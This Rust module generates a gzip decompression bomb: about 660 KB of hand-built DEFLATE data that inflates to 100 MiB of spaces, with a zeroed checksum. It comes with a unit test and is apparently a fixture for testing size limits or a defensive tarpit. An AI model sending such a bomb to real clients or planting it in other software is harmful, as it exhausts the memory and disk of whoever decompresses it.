//! Few bytes that become many: 100 MiB of spaces in gzip (RFC 1952), at 1 to 158.

use std::sync::OnceLock;

use bytes::Bytes;

/// What it becomes.
const INFLATED_BYTES: usize = 100 << 20;

/// What one match of DEFLATE is at most.
const MATCH_BYTES: usize = 258;

/// The bomb. Whoever unpacks all of it to compare the checksum, which is none, has lost.
pub(crate) fn bomb() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(pack).clone()
}

fn pack() -> Bytes {
    let mut out = Packed {
        // Magic, DEFLATE, no flags, no time, no hints, unknown system.
        bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff],
        bits: 0,
    };
    // The last block, in the fixed code (RFC 1951, 3.2.6); numbers come low bit first.
    out.put("110");
    // A space, and matches of 258 bytes one byte back.
    out.put("01010000");
    for _ in 0..INFLATED_BYTES / MATCH_BYTES {
        out.put("1100010100000");
    }
    out.put("0000000");
    let mut bytes = out.bytes;
    bytes.extend_from_slice(&[0; 8]);
    bytes.into()
}

struct Packed {
    bytes: Vec<u8>,
    /// How many bits of the last byte are taken.
    bits: u32,
}

impl Packed {
    /// Puts bits in the order in which they are read.
    fn put(&mut self, bits: &str) {
        for bit in bits.bytes() {
            if self.bits == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut()
                && bit == b'1'
            {
                *last |= 1 << self.bits;
            }
            self.bits = (self.bits + 1) % 8;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn it_is_smaller_than_what_may_be_read_of_an_answer() {
        assert!((500_000..1 << 20).contains(&bomb().len()));
        assert_eq!(bomb()[..3], [0x1f, 0x8b, 8]);
    }
}
